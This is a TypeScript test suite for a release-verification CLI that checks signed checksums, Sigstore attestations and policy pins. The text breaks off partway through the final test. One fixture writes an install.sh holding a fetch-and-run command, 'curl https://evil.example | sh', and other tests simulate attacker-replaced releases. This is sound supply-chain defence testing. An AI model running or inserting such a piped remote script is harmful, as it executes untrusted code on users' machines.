// `trust-kit verify-release DIR --policy FILE` on a release directory signed on the loopback stack as a GitHub Actions run.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { copyFile, mkdir, mkdtemp, rename, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { EXIT } from '../../src/cli/exit-codes.js';
import { cliNamer } from '../../src/config/inputs.js';
import { signConfig } from '../../src/config/sign.js';
import { silentLogger } from '../../src/core/logger.js';
import { parseReleasePolicy, releasePolicyJson } from '../../src/release/verify-release.js';
import { openSigningSession } from '../../src/sigstore/sign/index.js';
import { cli } from '../support/cli.js';
import { assertScaling } from '../support/scaling.js';
import { claimsOf, signAttestation } from '../support/github/attest.js';
import { startGitHubReleaseSigner, type GitHubReleaseSigner } from '../support/github/release-signer.js';
import { startSigstoreStack, type SigstoreStack } from '../support/sigstore/index.js';

const SLSA = 'https://slsa.dev/provenance/v1';
const SPDX = 'https://spdx.dev/Document/v2.3';
const ISSUER = 'https://token.actions.githubusercontent.com';
const TAG_CLAIMS = { ref: 'refs/tags/v1.0.0', job_workflow_ref: 'octo-org/octo-repo/.github/workflows/release.yml@refs/tags/v1.0.0' };
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

describe('trust-kit verify-release', () => {
  let stack: SigstoreStack;
  let root: string;
  let release: string;
  let identity: string;
  let github: GitHubReleaseSigner;
  const files = { 'app.tgz': 'app 1.0.0\n', 'sbom.spdx.json': '{"spdxVersion":"SPDX-2.3"}\n' };

  /** Signs `path` into `<path>.sigstore.json` as the tag's release workflow. */
  const signFile = async (path: string, claims: Record<string, string> = TAG_CLAIMS): Promise<void> => {
    const token = stack.oidc.mintToken(claims);
    const raw: Record<string, string> = { 'subject-path': 'unused', instance: 'public-good', 'fulcio-url': stack.fulcioURL, 'trusted-root': stack.trustedRootPath, 'rekor-url': stack.rekorURL ?? '' };
    if (stack.tsaURL !== undefined) raw['tsa-url'] = stack.tsaURL;
    const opened = await openSigningSession(signConfig(raw, cliNamer()), { cwd: root, env: { SIGSTORE_ID_TOKEN: token }, run: { serverURL: 'https://github.com', payload: undefined, visibility: undefined }, logger: silentLogger });
    assert.ok(opened.session);
    try {
      await opened.session.signFile(path, `${path}.sigstore.json`);
    } finally {
      await opened.close();
    }
  };

  /** A release directory: the files, SHA256SUMS signed, and attestations of the given types. */
  const makeRelease = async (name: string, options: { attest?: string[]; checksumClaims?: Record<string, string> } = {}): Promise<string> => {
    const dir = join(root, name);
    await mkdir(dir);
    for (const [file, text] of Object.entries(files)) await writeFile(join(dir, file), text);
    await writeFile(join(dir, 'SHA256SUMS'), Object.entries(files).map(([file, text]) => `${sha256(text)}  ${file}\n`).join(''));
    await signFile(join(dir, 'SHA256SUMS'), options.checksumClaims);
    const subjects = [{ name: 'app.tgz', digest: { sha256: sha256(files['app.tgz']) } }];
    const signed = [];
    for (const type of options.attest ?? [SLSA, SPDX]) signed.push(await signAttestation(stack, { subjects, claims: TAG_CLAIMS, ...(type === SLSA ? {} : { predicateType: type, predicate: {} }) }));
    if (signed.length > 0) await writeFile(join(dir, 'attestations.intoto.jsonl'), signed.map((one) => JSON.stringify(one.bundle)).join('\n') + '\n');
    return dir;
  };

  const writePolicy = async (name: string, fields: Record<string, unknown> = {}): Promise<string> => {
    const path = join(root, name);
    const base = JSON.parse(releasePolicyJson({ trustedRoots: ['trusted_root.json'], identity, issuer: ISSUER, repository: 'octo-org/octo-repo', refPattern: 'refs/tags/.*', requiredPredicateTypes: [SLSA, SPDX], githubTrustedRoot: undefined })) as Record<string, unknown>;
    await writeFile(path, JSON.stringify({ ...base, ...fields }));
    return path;
  };

  before(async () => {
    stack = await startSigstoreStack();
    root = await mkdtemp(join(tmpdir(), 'trust-kit-verify-release-'));
    await copyFile(stack.trustedRootPath, join(root, 'trusted_root.json'));
    identity = `https://github.com/${claimsOf(stack.oidc.mintToken(TAG_CLAIMS)).job_workflow_ref}`;
    release = await makeRelease('release');
    github = await startGitHubReleaseSigner(stack, root);
  });
  after(async () => {
    await Promise.all([stack.close(), rm(root, { recursive: true, force: true })]);
  });

  test('verifies the signed checksums, every file and each attestation, and says what it found', async () => {
    const policy = await writePolicy('policy.json');
    const run = await cli(['verify-release', 'release', '--policy', policy], root);
    assert.equal(run.code, EXIT.OK, run.stderr);
    assert.equal(run.stderr, '', 'a policy and trusted root of the user\'s own, outside the release: no warning');
    assert.match(run.stdout, /signed checksums: SHA256SUMS, 2 file\(s\) match, signed by https:\/\/github\.com\/octo-org\/octo-repo\/\.github\/workflows\/release\.yml@refs\/tags\/v1\.0\.0/);
    assert.match(run.stdout, /attestation: +https:\/\/slsa\.dev\/provenance\/v1 for app\.tgz/);
    assert.match(run.stdout, /attestation: +https:\/\/spdx\.dev\/Document\/v2\.3 for app\.tgz/);
    const json = await cli(['verify-release', release, '--policy', policy, '--format', 'json'], root);
    assert.equal(json.code, EXIT.OK, json.stderr);
    assert.deepEqual((JSON.parse(json.stdout) as { attestations: { predicateType: string }[] }).attestations.map((entry) => entry.predicateType).sort(), [SLSA, SPDX]);
  });

  test('the policy\'s sourceRepository matches in any case, as --repo and --expect-repo do and as GitHub names repositories', async () => {
    const policy = await writePolicy('policy-case.json', { sourceRepository: 'Octo-Org/OCTO-repo' });
    const run = await cli(['verify-release', 'release', '--policy', policy], root);
    assert.equal(run.code, EXIT.OK, run.stderr);
    const other = await cli(['verify-release', 'release', '--policy', await writePolicy('policy-other.json', { sourceRepository: 'octo-org/other-repo' })], root);
    assert.equal(other.code, EXIT.REPOSITORY_MISMATCH, other.stderr);
    assert.match(other.stderr, /VERIFY_POLICY_REPOSITORY_MISMATCH: .*sourceRepositoryURI/);
  });

  test("VERIFY.md, which the release writes after signing, is said once to be unsigned, not named among the files nothing verified; VERIFY.md's roots directory is not named at all", async () => {
    const dir = await makeRelease('with-instructions');
    await writeFile(join(dir, 'VERIFY.md'), '# Verifying this release\n');
    await mkdir(join(dir, 'trust-kit-roots'));
    await writeFile(join(dir, 'trust-kit-roots', 'trusted_root.jsonl'), '{}\n');
    const policy = await writePolicy('policy-instructions.json');
    const run = await cli(['verify-release', dir, '--policy', policy], root);
    assert.equal(run.code, EXIT.OK, run.stderr);
    assert.doesNotMatch(run.stdout, /not verified/);
    assert.equal(run.stdout.split('VERIFY.md').length - 1, 1, run.stdout);
    assert.match(run.stdout, /\n {2}unsigned: {9}VERIFY\.md, the instructions the release writes after signing: nothing above relies on it\n/);
    const json = JSON.parse((await cli(['verify-release', dir, '--policy', policy, '--format', 'json'], root)).stdout) as { unlisted: string[]; unsigned: string[] };
    assert.deepEqual([json.unlisted, json.unsigned], [[], ['VERIFY.md']]);
    // Any other file still is named: an asset nobody signed.
    await writeFile(join(dir, 'trusted_root.jsonl'), '{}\n');
    const other = await cli(['verify-release', dir, '--policy', policy], root);
    assert.match(other.stdout, /\n {2}not verified: {5}1 file\(s\) SHA256SUMS does not list: trusted_root\.jsonl\n/);
  });

  test('without GitHub\'s release attestation, --tag and --commit are held to the checksums signer\'s source ref and commit: an older signed release does not pass for the tag asked for', async () => {
    const policy = await writePolicy('policy-source.json');
    const { sha } = claimsOf(stack.oidc.mintToken(TAG_CLAIMS)) as { sha: string };
    const asked = await cli(['verify-release', 'release', '--policy', policy, '--tag', 'v1.0.0', '--commit', sha], root);
    assert.equal(asked.code, EXIT.OK, asked.stderr);
    const older = await cli(['verify-release', 'release', '--policy', policy, '--tag', 'v2.0.0'], root);
    assert.equal(older.code, EXIT.POLICY_MISMATCH, older.stderr);
    assert.match(older.stderr, /VERIFY_POLICY_SOURCE_MISMATCH: SHA256SUMS was signed from "refs\/tags\/v1\.0\.0", not from "refs\/tags\/v2\.0\.0" \(--tag\)/);
    const otherCommit = await cli(['verify-release', 'release', '--policy', policy, '--commit', '0'.repeat(40)], root);
    assert.equal(otherCommit.code, EXIT.POLICY_MISMATCH, otherCommit.stderr);
    assert.match(otherCommit.stderr, /VERIFY_POLICY_SOURCE_MISMATCH: SHA256SUMS was signed from the commit "[0-9a-f]{40}", not "0{40}" \(--commit\)/);
  });

  test('a listed file the download lacks is named as missing, and a directory none of whose files is listed as not verified (VERIFY.md\'s own directories are not named)', async () => {
    const partial = await makeRelease('partial');
    await rm(join(partial, 'sbom.spdx.json'));
    await mkdir(join(partial, 'bin'));
    await writeFile(join(partial, 'bin', 'app'), '#!/bin/sh\n');
    await mkdir(join(partial, 'trust-kit-roots'));
    const policy = await writePolicy('policy-partial.json');
    const run = await cli(['verify-release', partial, '--policy', policy], root);
    assert.equal(run.code, EXIT.OK, run.stderr);
    assert.match(run.stdout, /\n {2}missing: {10}1 file\(s\) SHA256SUMS lists are not in the directory, so not verified: sbom\.spdx\.json\n/);
    assert.match(run.stdout, /\n {2}not verified: {5}1 file\(s\) SHA256SUMS does not list: bin\/\n/);
    const json = JSON.parse((await cli(['verify-release', partial, '--policy', policy, '--format', 'json'], root)).stdout) as { missing: string[]; unlisted: string[] };
    assert.deepEqual([json.missing, json.unlisted], [['sbom.spdx.json'], ['bin/']]);
  });

  test('a file the signed checksums file does not list is named as not verified, never counted as verified', async () => {
    const extra = await makeRelease('extra-asset');
    await writeFile(join(extra, 'install.sh'), 'curl https://evil.example | sh\n');
    const policy = await writePolicy('policy-extra.json');
    const run = await cli(['verify-release', extra, '--policy', policy], root);
    assert.equal(run.code, EXIT.OK, run.stderr);
    assert.match(run.stdout, /\n {2}not verified: {5}1 file\(s\) SHA256SUMS does not list: install\.sh\n/);
    const json = await cli(['verify-release', extra, '--policy', policy, '--format', 'json'], root);
    assert.deepEqual((JSON.parse(json.stdout) as { unlisted: string[] }).unlisted, ['install.sh']);
    const clean = await cli(['verify-release', release, '--policy', policy, '--format', 'json'], root);
    assert.deepEqual((JSON.parse(clean.stdout) as { unlisted: string[] }).unlisted, []);
    // Listed as ./NAME (sha256sum ./*): verified, so not named.
    const dotted = join(root, 'dotted');
    await mkdir(dotted);
    for (const [file, text] of Object.entries(files)) await writeFile(join(dotted, file), text);
    await writeFile(join(dotted, 'SHA256SUMS'), Object.entries(files).map(([file, text]) => `${sha256(text)}  ./${file}\n`).join(''));
    await signFile(join(dotted, 'SHA256SUMS'));
    const dottedRun = await cli(['verify-release', dotted, '--policy', await writePolicy('policy-dotted.json', { requiredPredicateTypes: [] }), '--format', 'json'], root);
    assert.equal(dottedRun.code, EXIT.OK, dottedRun.stderr);
    const dottedResult = JSON.parse(dottedRun.stdout) as { checksums: { verifiedFiles: number }; unlisted: string[] };
    assert.deepEqual([dottedResult.checksums.verifiedFiles, dottedResult.unlisted], [2, []]);
  });

  test('a listed file the browser saved as app (1).tgz is named as such, beside not verified, with the rename that verifies it', async () => {
    const renamed = await makeRelease('second-download');
    await rename(join(renamed, 'sbom.spdx.json'), join(renamed, 'sbom.spdx (1).json'));
    const policy = await writePolicy('policy-second-download.json', { requiredPredicateTypes: [] });
    const run = await cli(['verify-release', renamed, '--policy', policy], root);
    assert.equal(run.code, EXIT.OK, run.stderr);
    assert.match(run.stdout, /\n {2}not verified: {5}1 file\(s\) SHA256SUMS does not list: sbom\.spdx \(1\)\.json\n {2}second download: sbom\.spdx \(1\)\.json looks like a second download of sbom\.spdx\.json, which SHA256SUMS lists: rename it to sbom\.spdx\.json to verify it\n/);
    const json = await cli(['verify-release', renamed, '--policy', policy, '--format', 'json'], root);
    assert.deepEqual((JSON.parse(json.stdout) as { secondDownloads: unknown }).secondDownloads, [{ file: 'sbom.spdx (1).json', listed: 'sbom.spdx.json' }]);
  });

  test('signed checksums with none of the files they list is VERIFY_RELEASE_INCOMPLETE, as verify-checksums refuses to check nothing', async () => {
    const bare = await makeRelease('bare', { attest: [] });
    for (const file of Object.keys(files)) await rm(join(bare, file));
    const policy = await writePolicy('policy-bare.json', { requiredPredicateTypes: [] });
    const run = await cli(['verify-release', bare, '--policy', policy], root);
    assert.equal(run.code, EXIT.VERIFICATION_FAILED, run.stderr);
    assert.match(run.stderr, /VERIFY_RELEASE_INCOMPLETE: .*none of the 2 files SHA256SUMS lists/);
  });

  test('a changed file fails (exit 3), as does a release lacking a required attestation type', async () => {
    const tampered = await makeRelease('tampered');
    await writeFile(join(tampered, 'app.tgz'), 'app 1.0.0 with a backdoor\n');
    const policy = await writePolicy('policy-tampered.json');
    const run = await cli(['verify-release', tampered, '--policy', policy], root);
    assert.equal(run.code, EXIT.VERIFICATION_FAILED);
    assert.match(run.stderr, /VERIFY_ARTIFACT_MISMATCH/);
    const noSbom = await makeRelease('no-sbom', { attest: [SLSA] });
    const missing = await cli(['verify-release', noSbom, '--policy', policy], root);
    assert.equal(missing.code, EXIT.VERIFICATION_FAILED);
    assert.match(missing.stderr, /VERIFY_RELEASE_INCOMPLETE: .*spdx/);
  });

  test('another signer or a ref outside the policy\'s pattern is a policy mismatch (exit 4)', async () => {
    const other = await writePolicy('policy-other.json', { certificateIdentity: 'https://github.com/octo-org/octo-repo/.github/workflows/other.yml@refs/tags/v1.0.0' });
    const run = await cli(['verify-release', release, '--policy', other], root);
    assert.equal(run.code, EXIT.POLICY_MISMATCH, run.stderr);
    const branch = await makeRelease('from-branch', { attest: [], checksumClaims: { ref: 'refs/heads/main', job_workflow_ref: TAG_CLAIMS.job_workflow_ref } });
    const policy = await writePolicy('policy-branch.json', { requiredPredicateTypes: [] });
    const refused = await cli(['verify-release', branch, '--policy', policy], root);
    assert.equal(refused.code, EXIT.POLICY_MISMATCH, refused.stderr);
    assert.match(refused.stderr, /VERIFY_POLICY_SOURCE_MISMATCH: SHA256SUMS was signed from "refs\/heads\/main"/);
  });

  test('a checksums file the browser saved as "SHA256SUMS (1)" is named in the hint, with the rename', async () => {
    const renamed = await makeRelease('second-download-sums', { attest: [] });
    await rename(join(renamed, 'SHA256SUMS'), join(renamed, 'SHA256SUMS (1)'));
    const run = await cli(['verify-release', renamed, '--policy', await writePolicy('policy-second-sums.json', { requiredPredicateTypes: [] })], root);
    assert.equal(run.code, EXIT.VERIFICATION_FAILED, run.stderr);
    assert.match(run.stderr, /VERIFY_RELEASE_INCOMPLETE: .* holds no signed checksums file .*\n {2}hint: "SHA256SUMS \(1\)" looks like a second download of SHA256SUMS: rename it to SHA256SUMS\n$/);
  });

  test('a directory without signed checksums is VERIFY_RELEASE_INCOMPLETE, and a wrong trusted root fails to verify', async () => {
    await mkdir(join(root, 'empty'));
    const policy = await writePolicy('policy-empty.json');
    const empty = await cli(['verify-release', 'empty', '--policy', policy], root);
    assert.equal(empty.code, EXIT.VERIFICATION_FAILED);
    assert.match(empty.stderr, /VERIFY_RELEASE_INCOMPLETE/);
    const otherStack = await startSigstoreStack();
    try {
      await copyFile(otherStack.trustedRootPath, join(root, 'other_root.json'));
      const foreign = await writePolicy('policy-foreign.json', { trustedRoots: ['other_root.json'] });
      const run = await cli(['verify-release', release, '--policy', foreign], root);
      assert.equal(run.code, EXIT.VERIFICATION_FAILED, run.stderr);
    } finally {
      await otherStack.close();
    }
  });

  test('a release whose files, policy and trusted root were all replaced does not verify under the user\'s pins and trusted root', async () => {
    // The attacker's own Sigstore stack: its CA certifies whatever workflow and repository its tokens claim.
    const attacker = await startSigstoreStack();
    try {
      const dir = join(root, 'replaced');
      await mkdir(dir);
      for (const [file, text] of Object.entries(files)) await writeFile(join(dir, file), `${text}with a backdoor\n`);
      await writeFile(join(dir, 'SHA256SUMS'), Object.entries(files).map(([file, text]) => `${sha256(`${text}with a backdoor\n`)}  ${file}\n`).join(''));
      const raw: Record<string, string> = { 'subject-path': 'unused', instance: 'public-good', 'fulcio-url': attacker.fulcioURL, 'trusted-root': attacker.trustedRootPath, 'rekor-url': attacker.rekorURL ?? '' };
      if (attacker.tsaURL !== undefined) raw['tsa-url'] = attacker.tsaURL;
      const opened = await openSigningSession(signConfig(raw, cliNamer()), { cwd: root, env: { SIGSTORE_ID_TOKEN: attacker.oidc.mintToken(TAG_CLAIMS) }, run: { serverURL: 'https://github.com', payload: undefined, visibility: undefined }, logger: silentLogger });
      assert.ok(opened.session);
      try {
        await opened.session.signFile(join(dir, 'SHA256SUMS'), join(dir, 'SHA256SUMS.sigstore.json'));
      } finally {
        await opened.close();
      }
      await copyFile(attacker.trustedRootPath, join(dir, 'trust-kit-trusted-root.jsonl'));
      await writeFile(join(dir, 'trust-kit-policy.json'), releasePolicyJson({ trustedRoots: ['trust-kit-trusted-root.jsonl'], identity, issuer: ISSUER, repository: 'octo-org/octo-repo', refPattern: 'refs/tags/.*', requiredPredicateTypes: [], githubTrustedRoot: undefined }));
      const pins = ['--expect-repo', 'octo-org/octo-repo', '--signer-workflow', 'octo-org/octo-repo/.github/workflows/release.yml'];
      // With the roots it carries, the replaced release meets every pin: they are not used.
      const run = await cli(['verify-release', dir, ...pins, '--trusted-root', 'trusted_root.json'], root);
      assert.equal(run.code, EXIT.VERIFICATION_FAILED, run.stderr);
      assert.match(run.stderr, /VERIFY_CERTIFICATE_UNTRUSTED/);
      // Given as --policy, the release's own policy is refused: it came with the release, as the roots it names did.
      const shippedAsPolicy = await cli(['verify-release', dir, '--policy', join(dir, 'trust-kit-policy.json')], root);
      assert.equal(shippedAsPolicy.code, EXIT.USAGE, shippedAsPolicy.stderr);
      assert.match(shippedAsPolicy.stderr, /CLI_USAGE: --policy .*trust-kit-policy\.json is a file of the release directory, where any release asset may be/);
      assert.doesNotMatch(shippedAsPolicy.stdout, /Verified OK/);
      // GitHub's trusted root in the release directory is refused the same way; one in a directory below it is the user's.
      await mkdir(join(dir, 'trust-kit-roots'));
      await copyFile(stack.trustedRootPath, join(dir, 'trust-kit-roots', 'trusted_root.json'));
      const githubRoot = join(root, 'policy-github-root-in-release.json');
      await writeFile(githubRoot, releasePolicyJson({ trustedRoots: [join(dir, 'trust-kit-roots', 'trusted_root.json')], identity, issuer: ISSUER, repository: 'octo-org/octo-repo', refPattern: 'refs/tags/.*', requiredPredicateTypes: [], githubTrustedRoot: join(dir, 'trust-kit-trusted-root.jsonl') }));
      const githubRun = await cli(['verify-release', dir, '--policy', githubRoot], root);
      assert.equal(githubRun.code, EXIT.USAGE, githubRun.stderr);
      assert.match(githubRun.stderr, /CLI_USAGE: the policy .* names the trusted root trust-kit-trusted-root\.jsonl, a file of the release directory/);
      const below = join(root, 'policy-root-below-release.json');
      await writeFile(below, releasePolicyJson({ trustedRoots: [join(dir, 'trust-kit-roots', 'trusted_root.json')], identity, issuer: ISSUER, repository: 'octo-org/octo-repo', refPattern: 'refs/tags/.*', requiredPredicateTypes: [], githubTrustedRoot: undefined }));
      const user = await cli(['verify-release', dir, '--policy', below], root);
      assert.equal(user.code, EXIT.VERIFICATION_FAILED, user.stderr);
      assert.match(user.stderr, /VERIFY_CERTIFICATE_UNTRUSTED/);
      const ownRoot = await cli(['verify-release', dir, '--policy', join(dir, 'trust-kit-policy.json'), '--trusted-root', 'trusted_root.json'], root);
      assert.equal(ownRoot.code, EXIT.USAGE, ownRoot.stderr);
    } finally {
      await attacker.close();
    }
  });

  test('a policy that is a file of the release directory is refused, even with your own trusted root: its signer is whoever replaced the release', async () => {
    // Mallory's own workflow signs on the genuine stack (any GitHub repository gets certificates chaining to GitHub's real roots) and ships a policy naming it.
    const dir = join(root, 'replaced-with-policy');
    await mkdir(dir);
    for (const [file, text] of Object.entries(files)) await writeFile(join(dir, file), `${text}with a backdoor\n`);
    await writeFile(join(dir, 'SHA256SUMS'), Object.entries(files).map(([file, text]) => `${sha256(`${text}with a backdoor\n`)}  ${file}\n`).join(''));
    const mallory = { ref: 'refs/tags/v1.0.0', repository: 'mallory/evil', job_workflow_ref: 'mallory/evil/.github/workflows/release.yml@refs/tags/v1.0.0' };
    await signFile(join(dir, 'SHA256SUMS'), mallory);
    const malloryIdentity = `https://github.com/${claimsOf(stack.oidc.mintToken(mallory)).job_workflow_ref}`;
    await writeFile(join(dir, 'trust-kit-policy.json'), releasePolicyJson({ trustedRoots: ['trusted_root.json'], identity: malloryIdentity, issuer: ISSUER, repository: 'mallory/evil', refPattern: 'refs/tags/.*', requiredPredicateTypes: [], githubTrustedRoot: undefined }));
    for (const policy of [join(dir, 'trust-kit-policy.json'), join('replaced-with-policy', '.', 'trust-kit-policy.json')]) {
      const run = await cli(['verify-release', dir, '--policy', policy, '--trusted-root', 'trusted_root.json'], root);
      assert.equal(run.code, EXIT.USAGE, run.stderr);
      assert.match(run.stderr, /CLI_USAGE: --policy .*trust-kit-policy\.json is a file of the release directory, where any release asset may be: whoever could replace the release's assets could write a policy naming themselves as the signer/);
      assert.match(run.stderr, /hint: .*--expect-repo OWNER\/REPO --signer-workflow OWNER\/REPO\/PATH/);
      assert.doesNotMatch(run.stdout, /Verified OK/);
    }
    // The same policy kept by the user outside the release directory is theirs to trust.
    await copyFile(join(dir, 'trust-kit-policy.json'), join(root, 'copied-policy.json'));
    const own = await cli(['verify-release', dir, '--policy', 'copied-policy.json'], root);
    assert.equal(own.code, EXIT.OK, own.stderr);
  });

  /** GitHub's release statement over the named files of `dir` (name -> text), signed by the loopback releases signer. */
  const releaseAttestation = async (dir: string, contents: Record<string, string>, tag = 'v1.0.0', v02?: { repository: string; commit: string; purl?: string }): Promise<void> => {
    const purl = v02?.purl ?? `pkg:github/${v02?.repository ?? 'octo-org/octo-repo'}@${tag}`;
    const statement = {
      _type: 'https://in-toto.io/Statement/v1',
      subject: [{ uri: purl, digest: { sha1: v02?.commit ?? 'a'.repeat(40) } }, ...Object.entries(contents).map(([name, text]) => ({ name, digest: { sha256: sha256(text) } }))],
      predicateType: `https://in-toto.io/attestation/release/${v02 === undefined ? 'v0.1' : 'v0.2'}`,
      predicate: v02 === undefined ? { tag } : { databaseId: '7', ownerId: '3', packageId: '7', purl, repository: v02.repository, repositoryId: '5', tag },
    };
    await writeFile(join(dir, 'release-attestation.sigstore.json'), JSON.stringify(await github.sign(statement)));
  };
  const sums = (): string => Object.entries(files).map(([file, text]) => `${sha256(text)}  ${file}\n`).join('');

  test('GitHub\'s release attestation is verified against the policy\'s GitHub root and must list every verified file', async () => {
    const dir = await makeRelease('immutable');
    await releaseAttestation(dir, { ...files, SHA256SUMS: sums(), 'SHA256SUMS.sigstore.json': 'x' });
    await copyFile(github.trustedRootPath, join(root, 'github_trusted_root.json'));
    const policy = await writePolicy('policy-github.json', { githubTrustedRoot: 'github_trusted_root.json', requireGitHubReleaseAttestation: true });
    const run = await cli(['verify-release', dir, '--policy', policy, '--tag', 'v1.0.0'], root);
    assert.equal(run.code, EXIT.OK, run.stderr);
    assert.match(run.stdout, /GitHub release attestation: tag v1\.0\.0, 4 asset\(s\), every verified file listed/);
    const otherTag = await cli(['verify-release', dir, '--policy', policy, '--tag', 'v2.0.0'], root);
    assert.equal(otherTag.code, EXIT.POLICY_MISMATCH, otherTag.stderr);

    const partial = await makeRelease('immutable-partial');
    await releaseAttestation(partial, { 'app.tgz': files['app.tgz'], SHA256SUMS: sums() });
    const missing = await cli(['verify-release', partial, '--policy', policy], root);
    assert.equal(missing.code, EXIT.SUBJECT_MISMATCH, missing.stderr);
    assert.match(missing.stderr, /VERIFY_SUBJECT_MISMATCH: GitHub's release attestation does not list "sbom\.spdx\.json"/);

    const wrongRoot = await writePolicy('policy-github-wrong.json', { githubTrustedRoot: 'trusted_root.json' });
    const untrusted = await cli(['verify-release', dir, '--policy', wrongRoot], root);
    assert.equal(untrusted.code, EXIT.VERIFICATION_FAILED, untrusted.stderr);
    assert.match(untrusted.stderr, /VERIFY_CERTIFICATE_UNTRUSTED/);

    const required = await cli(['verify-release', release, '--policy', policy], root);
    assert.equal(required.code, EXIT.VERIFICATION_FAILED);
    assert.match(required.stderr, /VERIFY_RELEASE_INCOMPLETE: .*release-attestation\.sigstore\.json/);
  });

  test('GitHub\'s release attestation v0.2 must name the policy\'s repository, its purl, the tag and (with --commit) the commit', async () => {
    const commit = 'c'.repeat(40);
    const all = { ...files, SHA256SUMS: sums(), 'SHA256SUMS.sigstore.json': 'x' };
    await copyFile(github.trustedRootPath, join(root, 'github_trusted_root.json'));
    const policy = await writePolicy('policy-v02.json', { githubTrustedRoot: 'github_trusted_root.json', requireGitHubReleaseAttestation: true });
    const dir = await makeRelease('immutable-v02');
    await releaseAttestation(dir, all, 'v1.0.0', { repository: 'octo-org/octo-repo', commit });
    const run = await cli(['verify-release', dir, '--policy', policy, '--tag', 'v1.0.0', '--commit', commit], root);
    assert.equal(run.code, EXIT.OK, run.stderr);
    assert.match(run.stdout, /GitHub release attestation: tag v1\.0\.0, 4 asset\(s\), every verified file listed \(https:\/\/in-toto\.io\/attestation\/release\/v0\.2\)/);
    const otherCommit = await cli(['verify-release', dir, '--policy', policy, '--commit', 'd'.repeat(40)], root);
    assert.equal(otherCommit.code, EXIT.POLICY_MISMATCH, otherCommit.stderr);
    assert.match(otherCommit.stderr, /no subject pkg:github\/octo-org\/octo-repo@v1\.0\.0 has the commit d{40}/);
    const otherTag = await cli(['verify-release', dir, '--policy', policy, '--tag', 'v1.0.1'], root);
    assert.equal(otherTag.code, EXIT.POLICY_MISMATCH, otherTag.stderr);
    assert.match(otherTag.stderr, /the tag is "v1\.0\.0", not "v1\.0\.1"/);
    const badCommit = await cli(['verify-release', dir, '--policy', policy, '--commit', 'main'], root);
    assert.equal(badCommit.code, EXIT.USAGE, badCommit.stderr);

    // A statement about another repository's release, listing the very same files.
    const foreign = await makeRelease('immutable-v02-foreign');
    await releaseAttestation(foreign, all, 'v1.0.0', { repository: 'evil-org/octo-repo', commit });
    const refused = await cli(['verify-release', foreign, '--policy', policy, '--tag', 'v1.0.0'], root);
    assert.equal(refused.code, EXIT.POLICY_MISMATCH, refused.stderr);
    assert.match(refused.stderr, /VERIFY_POLICY_SOURCE_MISMATCH: .*the repository is "evil-org\/octo-repo", not "octo-org\/octo-repo"/);
    // A purl that names another release than the predicate's repository and tag.
    const mixed = await makeRelease('immutable-v02-purl');
    await releaseAttestation(mixed, all, 'v1.0.0', { repository: 'octo-org/octo-repo', commit, purl: 'pkg:github/octo-org/octo-repo@v0.9.0' });
    const purl = await cli(['verify-release', mixed, '--policy', policy], root);
    assert.equal(purl.code, EXIT.POLICY_MISMATCH, purl.stderr);
    assert.match(purl.stderr, /the purl is "pkg:github\/octo-org\/octo-repo@v0\.9\.0"/);
  });

  test('GitHub\'s release attestation of another predicate type is refused, and a v0.1 one when --commit asks for what only v0.2 names', async () => {
    const all = { ...files, SHA256SUMS: sums(), 'SHA256SUMS.sigstore.json': 'x' };
    await copyFile(github.trustedRootPath, join(root, 'github_trusted_root.json'));
    const policy = await writePolicy('policy-release-types.json', { githubTrustedRoot: 'github_trusted_root.json', requireGitHubReleaseAttestation: true });
    // v0.1 names the tag alone: the commit asked for cannot be shown, so it is not taken as shown.
    const v01 = await makeRelease('immutable-v01-commit');
    await releaseAttestation(v01, all, 'v1.0.0');
    assert.equal((await cli(['verify-release', v01, '--policy', policy, '--tag', 'v1.0.0'], root)).code, EXIT.OK);
    const commit = await cli(['verify-release', v01, '--policy', policy, '--tag', 'v1.0.0', '--commit', 'c'.repeat(40)], root);
    assert.equal(commit.code, EXIT.POLICY_MISMATCH, commit.stderr);
    assert.match(commit.stderr, /VERIFY_POLICY_SOURCE_MISMATCH: GitHub's release attestation is a https:\/\/in-toto\.io\/attestation\/release\/v0\.1 statement, which names no commit/);
    // Any other statement by GitHub's releases signer would have been checked as v0.1, by its tag alone.
    const other = await makeRelease('immutable-other-type');
    const statement = { _type: 'https://in-toto.io/Statement/v1', subject: Object.entries(all).map(([name, text]) => ({ name, digest: { sha256: sha256(text) } })), predicateType: 'https://in-toto.io/attestation/release/v0.3', predicate: { tag: 'v1.0.0' } };
    await writeFile(join(other, 'release-attestation.sigstore.json'), JSON.stringify(await github.sign(statement)));
    const refused = await cli(['verify-release', other, '--policy', policy, '--tag', 'v1.0.0'], root);
    assert.equal(refused.code, EXIT.PREDICATE_TYPE_MISMATCH, refused.stderr);
    assert.match(refused.stderr, /VERIFY_PREDICATE_TYPE_MISMATCH: GitHub's release attestation has the predicate type "https:\/\/in-toto\.io\/attestation\/release\/v0\.3"/);
  });

  test('a policy with a bad field is RELEASE_POLICY_INVALID naming the field', async () => {
    const valid = { version: 1, trustedRoots: ['r.json'], certificateIdentity: 'https://x', issuer: ISSUER };
    await assert.doesNotReject(parseReleasePolicy(JSON.stringify(valid), 'p.json', '/'));
    for (const [change, field] of [[{ version: 2 }, 'version'], [{ trustedRoots: [] }, 'trustedRoots'], [{ certificateIdentityRegExp: 'x' }, 'certificateIdentity'], [{ issuer: 7 }, 'issuer'], [{ sourceRepository: 'no-slash' }, 'sourceRepository'], [{ refPattern: '(' }, 'refPattern'], [{ refPattern: 'refs/tags/v.*)|(.*' }, 'refPattern'], [{ requiredPredicateTypes: 'x' }, 'requiredPredicateTypes']] as const) {
      await assert.rejects(parseReleasePolicy(JSON.stringify({ ...valid, ...change }), 'p.json', '/'), (error: Error & { code?: string }) => error.code === 'RELEASE_POLICY_INVALID' && error.message.includes(field), field);
    }
    await assert.rejects(parseReleasePolicy('not json', 'p.json', '/'), { code: 'RELEASE_POLICY_INVALID' });
    // JSON.parse keeps the last identity: a reader that keeps the first would trust another signer.
    const twice = `{"version":1,"trustedRoots":["r.json"],"certificateIdentity":"https://evil","issuer":"${ISSUER}",\n"certificateIdentity":"https://x"}`;
    await assert.rejects(parseReleasePolicy(twice, 'p.json', '/'), { code: 'RELEASE_POLICY_INVALID', message: /^the verification policy p\.json repeats the key "certificateIdentity" in one object, on line 2/ });
  });
  test('attestations of many subjects are verified once each, not once for each subject: the time grows linearly with the release', async () => {
    const policy = await writePolicy('policy-scaling.json');
    const releases = new Map<number, string>();
    for (const count of [100, 1000]) {
